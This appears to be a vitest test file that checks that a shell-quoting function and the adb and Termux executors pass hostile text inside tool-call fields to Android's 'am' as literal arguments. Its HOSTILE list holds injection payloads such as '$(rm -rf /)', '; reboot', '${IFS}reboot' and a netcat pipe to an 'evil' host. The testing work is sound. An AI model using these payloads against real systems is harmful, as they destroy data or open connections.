import { execFileSync } from "node:child_process";
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Call } from "../types.ts";
import { createAdbExecutor } from "./adb.ts";
import { quoteAll } from "./quote.ts";
import { createTermuxExecutor } from "./termux.ts";

const HOSTILE = [
  "; reboot",
  "'; reboot; '",
  "$(rm -rf /)",
  "`reboot`",
  "a\nreboot\n",
  "\r\n",
  '" && reboot && "',
  "it's \"quoted\" 'twice'",
  "''''",
  "\\",
  "\\'; reboot #",
  "--es evil value",
  "-n com.evil/.Main",
  "--user 0",
  "$".concat("{IFS}reboot"),
  "$HOME ~ * ? [a] {a,b} !! %s",
  "| nc evil 1 > /dev/null < x & :",
  "# comment",
  "naïve 漢字 🙂 \u202e",
  "\ud800 lone",
  "\t tab",
  " leading and trailing ",
  "(sub) <in> >out",
  "a=b",
];

// A stand-in for the device's `am`: prints each of its arguments, ended by NUL.
let folder: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), "am-stub-"));
  writeFileSync(join(folder, "am"), '#!/bin/sh\nfor a in "$@"; do printf \'%s\\0\' "$a"; done\n');
  chmodSync(join(folder, "am"), 0o755);
});
afterAll(() => rmSync(folder, { recursive: true }));

/** What `am` receives when a POSIX shell runs `line`. */
function received(line: string): string[] {
  const output = execFileSync("sh", ["-c", line], { env: { PATH: `${folder}:/usr/bin:/bin`, HOME: "/home" } });
  return output.toString("utf8").split("\0").slice(0, -1);
}

const text = (value: string): string => value.toWellFormed();

/** Calls that carry a text in every place where one may stand. */
const carriers: [string, (value: string) => Call][] = [
  ["alarm message", (message) => ({ name: "set_alarm", arguments: { hour: 8, minute: 0, message } })],
  ["message body", (body) => ({ name: "send_message", arguments: { phone_number: "555 0100", body } })],
  ["phone number", (value) => ({ name: "dial", arguments: { phone_number: `1${value}` } })],
  ["mail subject", (subject) => ({ name: "send_email", arguments: { to: ["a@example.com"], subject } })],
  ["search", (query) => ({ name: "web_search", arguments: { query: `x${query}` } })],
  ["search engine", (query) => ({ name: "web_search", arguments: { query: `x${query}`, engine: "google" } })],
  ["place", (query) => ({ name: "search_location", arguments: { query: `x${query}` } })],
  ["contact name", (name) => ({ name: "insert_contact", arguments: { contact_info: { name } } })],
  ["event title", (title) => ({ name: "insert_event", arguments: { title: `x${title}`, location: title } })],
];

describe("quoteAll", () => {
  it.each(HOSTILE)("hands %j to a program as one argument", (value) => {
    expect(received(quoteAll(["am", value, "", value]))).toEqual([text(value), "", text(value)]);
  });

  it("refuses NUL", () => {
    expect(() => quoteAll(["am", "a\0b"])).toThrow(/NUL/);
  });
});

describe.each(carriers)("hostile text in a %s", (_, callWith) => {
  const termux = createTermuxExecutor();
  const adb = createAdbExecutor({ serial: "emulator-5554" });

  it.each(HOSTILE)("%j reaches am as data through adb's remote shell", (value) => {
    const call = callWith(value);
    const argv = termux.commandFor(call);
    const command = adb.commandFor(call);
    expect(command.slice(0, 4)).toEqual(["adb", "-s", "emulator-5554", "shell"]);
    expect(command).toHaveLength(5);
    expect(received(command[4] as string)).toEqual(argv.slice(1).map(text));
    expect(argv).toHaveLength(termux.commandFor(callWith("plain")).length);
  });

  it("NUL never reaches a command", () => {
    for (const executor of [adb, termux]) {
      try {
        for (const argument of executor.commandFor(callWith("a\0b"))) expect(argument).not.toContain("\0");
      } catch (error) {
        expect(String(error)).toMatch(/NUL/);
      }
    }
  });
});
